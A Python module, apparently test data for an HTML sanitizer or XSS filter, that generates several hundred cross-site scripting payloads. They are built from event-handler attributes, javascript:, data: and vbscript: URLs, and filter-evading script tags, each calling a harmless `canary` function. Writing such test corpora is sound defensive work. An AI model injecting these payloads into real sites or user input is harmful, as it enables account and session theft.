"""Mark-up of attackers: ways to make a page run something, each calling the function `canary` if it gets so far."""

from __future__ import annotations

from itertools import product

CALL = "canary(1)"
ELEMENTS = (
    "<img src=x {handler}>",
    "<svg {handler}></svg>",
    "<svg><animate {handler} attributeName=x dur=1s></svg>",
    "<body {handler}>",
    "<video {handler}><source {handler}></video>",
    "<audio src=x {handler}></audio>",
    "<details open {handler}>x</details>",
    "<input autofocus {handler}>",
    "<select autofocus {handler}></select>",
    "<marquee {handler}>x</marquee>",
    "<a href=x {handler}>x</a>",
    "<p style='animation:x' {handler}>x</p>",
    "<math><mtext><img src=x {handler}></mtext></math>",
    "<noscript><p title='</noscript><img src=x {handler}>'>",
    "<template><img src=x {handler}></template>",
    "<table><td background=x {handler}>x",
)
HANDLERS = tuple(
    spelling.format(event=event, call=CALL)
    for event in ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onstart", "onanimationstart")
    for spelling in ("{event}={call}", "{event}='{call}'", "/{event}={call} x=")
)
ADDRESSES = (
    "javascript:canary(1)",
    "JaVaScRiPt:canary(1)",
    "java\tscript:canary(1)",
    "java&#10;script:canary(1)",
    "&#106;avascript:canary(1)",
    "\x01javascript:canary(1)",
    "data:text/html,<script>canary(1)</script>",
    "vbscript:canary(1)",
)
HOLDERS = (
    '<a href="{address}">x</a>',
    '<iframe src="{address}"></iframe>',
    '<object data="{address}"></object>',
    '<form action="{address}"><button>x</button></form>',
    '<svg><a xlink:href="{address}"><text>x</text></a></svg>',
)
SCRIPTS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<svg><script>{CALL}</script></svg>",
    f"--><script>{CALL}</script>",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
)


def payloads() -> list[str]:
    """All of them, more than 300."""
    handlers = [element.format(handler=handler) for element, handler in product(ELEMENTS, HANDLERS)]
    addresses = [holder.format(address=address) for holder, address in product(HOLDERS, ADDRESSES)]
    return [*SCRIPTS, *handlers, *addresses]
